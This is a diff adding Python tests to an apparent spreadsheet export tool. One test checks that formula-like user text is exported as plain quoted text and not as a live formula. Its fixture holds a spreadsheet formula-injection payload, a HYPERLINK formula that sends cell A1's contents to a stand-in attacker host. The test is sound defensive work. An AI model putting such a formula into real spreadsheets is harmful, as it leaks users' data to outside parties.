@@ -177,3 +177,38 @@ def test_a_kit_from_before_the_pattern_text_columns_still_reads_and_a_later_one_
     import_patterns_and_adoptions(ws, [entry], [], source="again.xlsx", index=False)
     sso = next(p for p in list_patterns(ws) if p.name == entry.name)
     assert sso.problem == filled[entry.name].problem  # a pattern with text keeps it
+
+
+def test_user_text_that_looks_like_a_formula_is_written_as_text_and_reads_back(
+        ws, settings, embedder, tmp_path) -> None:
+    sheet = tmp_path / "formula.csv"
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+    sheet.write_text('Title,Problem,Submitted by,Team,Submitted\n"' + title.replace('"', '""')
+                     + '","Invoices fail after the tax change","=1+2","@SUM(1+1)",2026-10-05\n'
+                     "+44 20 7946 0958,- a dash first and a tab,-5,\tTabbed,2026-10-06\n",
+                     encoding="utf-8")
+    ingest_paths(ws, [sheet])
+    kit = export_kit(ws, tmp_path / "kit.xlsx", on=ON)
+    intake = openpyxl.load_workbook(kit)["Intake"]
+    cells = {c.value: c for row in intake.iter_rows() for c in row if isinstance(c.value, str)}
+    for text in (title, "=1+2", "@SUM(1+1)", "+44 20 7946 0958", "- a dash first and a tab",
+                 "-5"):
+        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
+    assert not any(c.data_type == "f" for c in cells.values())
+    # The round trip gives back the text as typed.
+    other = open_workspace(load_settings(data_dir=tmp_path / "other"), embedder=embedder)
+    try:
+        assert ingest_paths(other, [kit]).cases_added == 2
+        again = export_kit(other, tmp_path / "again.xlsx", on=ON)
+        assert differences(workbook_values(kit), workbook_values(again)) == []
+    finally:
+        other.close()
+
+
+def test_kit_export_into_a_missing_folder_is_refused_and_creates_nothing(tmp_path) -> None:
+    from assistant.errors import AssistantError
+
+    target = tmp_path / "typo" / "dir" / "kit.xlsx"
+    with pytest.raises(AssistantError, match="does not exist"):
+        export_kit(None, target)
+    assert not (tmp_path / "typo").exists()
